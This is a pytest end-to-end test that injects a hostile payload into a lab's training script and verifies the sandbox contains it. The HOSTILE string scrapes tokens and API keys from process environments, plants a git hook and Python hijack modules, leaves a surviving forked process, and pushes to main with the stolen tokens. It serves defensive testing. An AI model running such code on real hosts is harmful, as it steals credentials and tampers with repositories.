"""A hostile train.py through the real host daemon, the bot and the sandbox GitHub.

The lab's own training script attacks the host it runs on: it hunts for the
host token and API keys (environment, every /proc/*/environ), opens a TCP
connection to a listener on the host's loopback, writes outside its
checkout, plants a git hook, leaves a setsid'd double-forked child behind,
plants `py_compile.py`/`sitecustomize.py` for host-side Python, and pushes to
`main` with whatever token it found. Each attempt prints one line into the
job's log; the test checks from outside that none of it worked, and that the
honest part of the same run still trained and reported.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

from tests.e2e.conftest import Lab, problem_files

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]

FAKE = "fake-secret-0123456789abcdef"

HOSTILE = """
def _hostile():
    import json, os, socket, subprocess
    seed = int(os.environ.get("KOHAI_SEED", "0"))
    out = {"seed": seed}
    found = [v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                data = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
            except OSError:
                continue
            found += [p for p in data.split("\\0") if "TOKEN=" in p or "KEY=" in p]
    out["secrets"] = found
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=2).close()
        out["tcp"] = "connected"
    except OSError as exc:
        out["tcp"] = "refused: " + str(exc)
    try:
        with open(OUTSIDE, "w") as fh:
            fh.write("pwned")
        out["outside"] = "written (in the sandbox's own tmpfs?)"
    except OSError as exc:
        out["outside"] = exc.strerror
    try:
        os.makedirs(".git/hooks", exist_ok=True)
        with open(".git/hooks/pre-push", "w") as fh:
            fh.write("#!/bin/sh\\ntouch MARKER\\n")
        out["hook"] = "written"
    except OSError as exc:
        out["hook"] = exc.strerror
    git = ["git", "-c", "user.name=x", "-c", "user.email=x@x"]
    out["common_dir"] = subprocess.run(
        git + ["rev-parse", "--git-common-dir"], capture_output=True, text=True
    ).stdout.strip()
    headers = [a for t in found[:3] for a in ("-c", f"http.extraHeader=Authorization: {t}")]
    push = subprocess.run(
        git + headers + ["push", "URL", "HEAD:refs/heads/main"],
        capture_output=True, text=True, timeout=30,
    )
    out["push"] = "pushed" if push.returncode == 0 else "failed: " + push.stderr.strip()[-120:]
    if os.fork() == 0:  # a survivor: setsid, double fork, sleep, then touch the marker
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 30; touch MARKER", "TAG"])
        os._exit(0)
    os.wait()
    if seed % 2 == 0:  # modules that would run if host-side Python imported from here
        for name in ("py_compile.py", "sitecustomize.py"):
            with open(name, "w") as fh:
                fh.write("open('MARKER', 'w').write('hijacked')\\n")
        out["hijack"] = "planted"
    print("HOSTILE " + json.dumps(out), flush=True)

"""


class Listener:
    """A TCP listener on the host's loopback that counts connections."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.accepted = 0
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self.done.is_set():
            try:
                conn, _ = self.server.accept()
                self.accepted += 1
                conn.close()
            except TimeoutError:
                pass

    def close(self) -> None:
        self.done.set()
        self.thread.join()
        self.server.close()


def processes_with(tag: str) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if tag.encode() in (entry / "cmdline").read_bytes():
                    pids.append(int(entry.name))
            except OSError:
                continue
    return pids


def test_a_hostile_training_script_is_contained_and_the_run_still_reports(
    make_lab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    listener = Listener()
    marker = tmp_path / "hijacked-or-survived"
    outside = tmp_path / "outside-the-job.txt"
    tag = f"kohai-survivor-{os.getpid()}-{time.monotonic_ns()}"
    files = problem_files(budget="3s", baseline_seeds="2")
    hostile = (
        HOSTILE.replace("PORT", str(listener.port))
        .replace("OUTSIDE", repr(str(outside)))
        .replace("MARKER", str(marker))
        .replace("URL", f"http://127.0.0.1:{listener.port}/lab/charlm.git")
        .replace("TAG", tag)
    )
    files["train.py"] = files["train.py"].replace(
        'if __name__ == "__main__":\n    main()',
        hostile + 'if __name__ == "__main__":\n    _hostile()\n    main()',
    )
    monkeypatch.setenv("WANDB_API_KEY", FAKE)
    monkeypatch.setenv("ANTHROPIC_API_KEY", FAKE)
    lab: Lab = make_lab(files=files)
    git_dir = lab.sandbox.world.repo_path(lab.repo)
    main_before = subprocess.run(
        ["git", "rev-parse", "main"], cwd=git_dir, capture_output=True, text=True
    ).stdout.strip()
    try:
        lab.add_host("fern")
        runs = lab.wait(
            "both baseline seeds",
            lambda: (
                (r := lab.q("SELECT * FROM runs WHERE kind = 'baseline'")) and len(r) >= 2 and r
            ),
            timeout=240,
        )
    finally:
        listener.close()

    reports = {}
    for run in runs:
        line = next(x for x in run["log_tail"].splitlines() if x.startswith("HOSTILE "))
        reports[run["seed"]] = (run, json.loads(line.removeprefix("HOSTILE ")))
    for run, report in reports.values():
        # No token or key anywhere it could look (the daemon's env held three).
        assert report["secrets"] == [], report["secrets"]
        assert FAKE not in run["log_tail"]
        # No network: neither the listener nor a push reached anything.
        assert report["tcp"].startswith("refused"), report
        assert report["push"].startswith("failed"), report
        # The checkout's .git is its own and read-only: no hook, no way into the cache.
        assert report["hook"] == "Read-only file system"
        assert report["common_dir"] == ".git"
    assert listener.accepted == 0
    assert not outside.exists()
    # The honest part still trains and reports; the planted modules make their run invalid.
    statuses = {seed: (run["status"], run["reason"]) for seed, (run, _) in reports.items()}
    odd = [s for s in statuses if s % 2]
    even = [s for s in statuses if not s % 2]
    assert odd and even, statuses
    for seed in odd:
        assert statuses[seed][0] == "ok", statuses[seed]
        assert reports[seed][0]["metric"] is not None
    for seed in even:
        status, reason = statuses[seed]
        assert status == "invalid" and "py_compile.py" in reason, statuses[seed]
    # main did not move; nothing ran on the host; no process outlived its job.
    main_after = subprocess.run(
        ["git", "rev-parse", "main"], cwd=git_dir, capture_output=True, text=True
    ).stdout.strip()
    assert main_after == main_before
    assert not marker.exists()
    assert processes_with(tag) == []
